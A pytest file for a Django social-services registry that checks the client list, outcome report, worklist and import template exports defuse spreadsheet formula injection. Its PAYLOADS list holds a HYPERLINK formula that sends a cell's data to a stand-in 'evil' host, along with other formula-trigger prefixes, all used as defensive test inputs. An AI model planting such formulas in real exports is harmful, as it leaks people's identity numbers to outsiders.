"""Text a user typed is text in every file the registry writes (issue #15, finding 3).

A name, address, birth place or program name starting with =, +, -, @, a tab or a carriage
return would be a live formula in a spreadsheet: =HYPERLINK(...) sends a row's NIK away
when a manager opens the file. Each export is downloaded through its view: a CSV cell
holds an apostrophe and then the typed text, an XLSX holds no formula cell and the typed
text as a string cell, and the database keeps what was typed.
"""

import csv
import io
import json
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from beneficiaries.models import Client, PpksType
from beneficiaries.tests.factories import CaseNoteFactory, ClientFactory
from core.jobs.models import Job
from programs.models import TrainingProgram
from programs.tests.factories import (
    BatchFactory,
    EnrolmentFactory,
    TrainingProgramFactory,
    grantee_with_business,
)

PAYLOADS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def _csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx_cells(content: bytes):
    """Every cell of every sheet, as openpyxl reads them back (value and data type)."""
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _read_back_as(typed: str) -> set[str]:
    # openpyxl writes a carriage return as &#13; with lxml installed, and as it is without
    # (the standard library's writer); XML reads a bare one as a line feed (XML 1.0, 2.11).
    return {typed, typed.replace("\r", "\n")}


def _assert_no_formulas(cells):
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# -- the client list -------------------------------------------------------------------


@pytest.fixture
def typed_clients(db):
    """One client per payload, in its name, birth place and address."""
    return {
        typed: ClientFactory(name=typed, birth_place=typed, address=typed) for typed in PAYLOADS
    }


def _assert_kept_as_typed(typed_clients):
    for typed, record in typed_clients.items():
        record.refresh_from_db()
        assert (record.name, record.birth_place, record.address) == (typed, typed, typed)


def test_client_list_csv_writes_typed_text_as_text(client, manager, typed_clients):
    client.force_login(manager)

    rows = _csv_cells(_body(client.get(reverse("beneficiaries:client_export_csv"))))

    header = rows[0]
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    for typed, record in typed_clients.items():
        row = by_number[record.registration_number]
        assert [row["Nama"], row["Tempat Lahir"], row["Alamat"]] == [f"'{typed}"] * 3
    _assert_kept_as_typed(typed_clients)


def test_client_list_xlsx_has_no_formulas(client, manager, typed_clients):
    client.force_login(manager)

    cells = _xlsx_cells(_body(client.get(reverse("beneficiaries:client_export_xlsx"))))

    _assert_no_formulas(cells)
    for typed in PAYLOADS:
        written = [cell for cell in cells if cell.value in _read_back_as(typed)]
        assert len(written) == 3  # name, birth place, address
        assert {cell.data_type for cell in written} == {"s"}
    _assert_kept_as_typed(typed_clients)


# -- the outcome report ----------------------------------------------------------------


@pytest.fixture
def typed_programs(db):
    """One program per payload, with a cohort of the same name and one enrolment."""
    programs = {}
    for typed in PAYLOADS:
        program = TrainingProgramFactory(name=typed)
        EnrolmentFactory(batch=BatchFactory(program=program, name=typed))
        programs[typed] = program
    return programs


def _assert_programs_kept(typed_programs):
    for typed, program in typed_programs.items():
        assert TrainingProgram.objects.get(pk=program.pk).name == typed


def test_report_csv_writes_typed_text_as_text(client, manager, typed_programs):
    client.force_login(manager)
    url = reverse("programs:report_outcomes")
    chosen = typed_programs[PAYLOADS[0]]

    rows = _csv_cells(client.get(url, {"format": "csv"}).content)
    filtered = _csv_cells(client.get(url, {"format": "csv", "program": chosen.pk}).content)

    labels = [row[0] for row in rows if row]
    for typed in PAYLOADS:
        assert f"'{typed}" in labels  # the program's row of "By program"
        assert f"'{typed}: {typed}" in labels  # the cohort's row of "By cohort"
    assert [f"'{PAYLOADS[0]}"] in [row[1:] for row in filtered[1:3]]  # the filter in force
    assert not {cell for row in rows + filtered for cell in row} & set(PAYLOADS)
    _assert_programs_kept(typed_programs)


def test_report_xlsx_has_no_formulas(client, manager, typed_programs):
    client.force_login(manager)
    url = reverse("programs:report_outcomes")
    chosen = typed_programs[PAYLOADS[0]]

    cells = _xlsx_cells(client.get(url, {"format": "xlsx"}).content)
    filtered = _xlsx_cells(client.get(url, {"format": "xlsx", "program": chosen.pk}).content)

    _assert_no_formulas(cells + filtered)
    values = {cell.value for cell in cells}
    for typed in PAYLOADS:
        assert _read_back_as(typed) & values
        assert _read_back_as(f"{typed}: {typed}") & values
    assert PAYLOADS[0] in {cell.value for cell in filtered}
    # Figures stay numbers.
    assert any(isinstance(cell.value, int) and cell.data_type == "n" for cell in cells)
    _assert_programs_kept(typed_programs)


# -- the follow-up worklist ------------------------------------------------------------


def test_worklist_csv_writes_typed_text_as_text(client, manager, db):
    grantees = {}
    for typed in PAYLOADS:
        grantee, _business, _item = grantee_with_business()  # never visited: on the list
        Client.objects.filter(pk=grantee.pk).update(name=typed)
        grantees[typed] = grantee
    client.force_login(manager)

    response = client.get(reverse("programs:worklist"), {"format": "csv"})

    rows = _csv_cells(_body(response))
    names = {row[0]: row[1] for row in rows[1:]}
    for typed, grantee in grantees.items():
        assert names[grantee.registration_number] == f"'{typed}"
        assert Client.objects.get(pk=grantee.pk).name == typed


# -- the subject-access file -----------------------------------------------------------


def test_subject_access_file_keeps_typed_text_and_holds_no_spreadsheet(client, manager, db):
    typed = PAYLOADS[0]
    record = ClientFactory(name=typed, birth_place=typed, address=typed)
    CaseNoteFactory(client=record, text=typed)
    client.force_login(manager)

    client.post(reverse("beneficiaries:client_subject_access", args=[record.pk]))
    job = Job.objects.latest("created_at")
    response = client.get(reverse("jobs:download", args=[job.pk]))

    archive = zipfile.ZipFile(io.BytesIO(_body(response)))
    # JSON is never run as a formula. A spreadsheet added to this file is written through
    # core/spreadsheets.py and checked here like the others.
    assert [n for n in archive.namelist() if n.endswith((".csv", ".xlsx"))] == []
    data = json.loads(archive.read("data.json"))
    assert list(data["client"][0].values()).count(typed) == 3  # name, birth place, address
    assert typed in data["case_notes"][0].values()


# -- the import template ---------------------------------------------------------------


def test_import_template_writes_reference_names_as_text(client, worker_malang, db):
    typed = PAYLOADS[0]
    PpksType.objects.create(code="99", name=typed, active=True)
    client.force_login(worker_malang)

    response = client.get(reverse("beneficiaries:client_import_template"))

    cells = _xlsx_cells(response.content)
    _assert_no_formulas(cells)
    assert [cell.data_type for cell in cells if cell.value == typed] == ["s"]
